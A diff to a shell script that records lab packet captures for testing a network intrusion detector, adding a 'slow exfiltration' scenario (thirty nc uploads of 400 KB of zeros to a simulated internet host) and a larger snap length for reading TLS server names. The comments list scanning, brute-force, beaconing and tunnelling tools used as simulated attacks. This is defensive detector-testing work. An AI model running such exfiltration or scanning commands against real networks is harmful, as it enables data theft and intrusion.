@@ -3,7 +3,8 @@
 # real everyday traffic between hosts in network namespaces this script
 # creates (see record-detect-lib.sh for the LAN), one capture per scenario,
 # tcpdump on the bridge with a 128-byte snap length (600 for brute-http,
-# whose HTTP 401 responses the detector reads from HTTP events).
+# whose HTTP 401 responses the detector reads from HTTP events, and 700 for
+# beacon-rotating, whose TLS server name it reads from ClientHello events).
 #
 # Attacks (true positives): nmap -sS/-sT/-sF/-sN/-sX/-sU, masscan, an nmap
 # port-445 sweep, nmap ARP and ICMP host discovery, hping3 SYN/UDP/ICMP
@@ -13,7 +14,7 @@
 # sshd addresses, an HTTP beacon (curl every 2 s ± 20 %,
 # some beats missed) with a long-lived TCP session beside it, the same over
 # HTTPS, and over HTTPS to one name whose address rotates, a 12 MB upload
-# to the "internet" host, SSH fan-out and an SSH chain between internal hosts,
+# to the "internet" host and 30 uploads of 400 KB to it, SSH fan-out and an SSH chain between internal hosts,
 # ptunnel-ng (SSH over ICMP echo) and SSH on port 443.
 # Everyday traffic (true negatives): dig, curl over HTTP and HTTPS, a small
 # parallel "page load", ssh sessions, scp, NTP (chronyd -Q), ping, a download;
@@ -325,6 +326,18 @@ exfil() {
     head -c 12000000 /dev/zero | on a timeout 50 nc -N "$X" 8080
     wait
 }
+# slow exfiltration: 30 uploads of 400 KB, one every 3 s
+exfil_slow() {
+    local i
+    on x timeout 120 nc -lk -p 8080 >/dev/null &
+    sleep 0.5
+    for i in $(seq 30); do
+        head -c 400000 /dev/zero | on a timeout 10 nc -N "$X" 8080
+        sleep 3
+    done
+    kill %1 2>/dev/null || true
+    wait
+}
 lateral() {
     local v
     for v in 41 42 43 44 20; do
@@ -404,6 +417,7 @@ rec brute-ftp brute_ftp
 SNAPLEN=600 rec brute-http brute_http
 rec spray-ssh spray_ssh
 rec exfil-upload exfil
+rec exfil-slow exfil_slow
 rec lateral-ssh lateral
 rec tunnel-icmp tunnel_icmp
 rec ssh-on-443 ssh_443
@@ -443,5 +457,6 @@ rec benign benign
 rec benign-office office
 rec beacon-http beacon
 rec beacon-https beacon_https
-rec beacon-rotating beacon_rotating
+# the server name is read from ClientHello events: whole hellos (~600 bytes)
+SNAPLEN=700 rec beacon-rotating beacon_rotating
 du -sh "$OUT"
